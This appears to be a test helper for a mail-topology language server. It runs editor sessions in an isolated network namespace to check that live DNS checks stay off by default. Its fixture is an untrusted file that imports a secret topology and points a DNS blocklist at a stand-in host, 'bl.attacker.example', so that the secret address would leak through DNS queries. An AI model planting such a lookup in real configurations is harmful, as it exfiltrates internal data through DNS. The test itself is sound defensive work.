// Runs INSIDE a network namespace made by stdioDefaults.test.ts (`unshare -n
// -m`: only a loopback interface, /etc/resolv.conf bind-mounted to say
// `nameserver 127.0.0.1`). Starts the test DNS server on 127.0.0.1:53, the
// only resolver the language server can reach, then plays stdio clients that
// send no settings (Helix: no configuration capability; Neovim: asks
// workspace/configuration and gets null) and one whose settings turn live
// checks on (the control: its queries must reach the counter). Prints
// {"cases": {name: packets}, "names": [...]} on stdout.
import * as fs from 'node:fs';
import * as path from 'node:path';
import { startDnsServer } from '../support/dnsServer';
import { startSession, fileUri, CLIENT_CAPABILITIES, type SessionOptions } from './harness';

const dir = fs.mkdtempSync('/tmp/mailtopo-netns-');
fs.mkdirSync(path.join(dir, 'secret'));
fs.mkdirSync(path.join(dir, 'project'));
// the file an attacker cannot read, and the untrusted one that imports it
fs.writeFileSync(
  path.join(dir, 'secret', 'topology.mailtopo'),
  'gateway hidden {\n  role edge\n  hostname hidden.corp.example\n  address 203.0.113.77\n  route * via=direct\n}\n',
);
const main = `import "../secret/topology.mailtopo"

options {
  dnsbl bl.attacker.example
}

domain corp.example {
  mx 10 hidden
}
`;
const mainPath = path.join(dir, 'project', 'main.mailtopo');
fs.writeFileSync(mainPath, main);

const { configuration: _omit, ...noConfiguration } = CLIENT_CAPABILITIES.workspace ?? {};
const CASES: Record<string, SessionOptions> = {
  'helix (no settings, no configuration request)': {
    initializationOptions: null,
    settings: null,
    capabilities: { ...CLIENT_CAPABILITIES, workspace: noConfiguration },
  },
  'neovim (no settings, configuration answers null)': { initializationOptions: null, settings: null },
  'vscode-like (sends Workspace Trust: trusted, no settings)': {
    initializationOptions: { trusted: true },
    settings: null,
  },
  'control: settings turn live checks on': {
    initializationOptions: null,
    settings: { liveChecks: { enabled: true, timeoutMs: 500 } },
  },
};

async function main_(): Promise<void> {
  const dns = await startDnsServer({
    port: 53,
    zoneTexts: [
      '$ORIGIN corp.example.\n$TTL 60\n@ IN SOA ns hostmaster 1 3600 600 86400 ' +
        '60\n@ IN NS ns\n@ IN MX 10 hidden\nhidden IN A 203.0.113.77\n',
      // a working DNSBL (RFC 5782 test point listed), so the control goes on to ask about the secret address
      '$ORIGIN bl.attacker.example.\n$TTL 60\n@ IN SOA ns hostmaster 1 3600 600 86400 60\n@ IN NS ns\n2.0.0.127 IN A 127.0.0.2\n',
    ],
  });
  const cases: Record<string, number> = {};
  const names = new Set<string>();
  try {
    for (const [name, o] of Object.entries(CASES)) {
      dns.resetLog();
      // the editor has the parent folder open, so the import stays inside the workspace root
      const s = await startSession({ ...o, workspaceFolders: [dir], env: { MAILTOPO_LSP_TEST: '1' } });
      const uri = fileUri(mainPath);
      s.open(uri, main);
      await s.diagnostics(uri, () => true, 20000);
      await new Promise((r) => setTimeout(r, 3500)); // well past the 1.5 s live pause and one run
      cases[name] = dns.queries;
      for (const e of dns.log) names.add(e.name);
      await s.stop();
    }
  } finally {
    await dns.stop();
    fs.rmSync(dir, { recursive: true, force: true });
  }
  process.stdout.write(JSON.stringify({ cases, names: [...names] }) + '\n');
}

main_().catch((e) => {
  process.stderr.write(`${(e as Error)?.stack ?? String(e)}\n`);
  process.exitCode = 1;
});
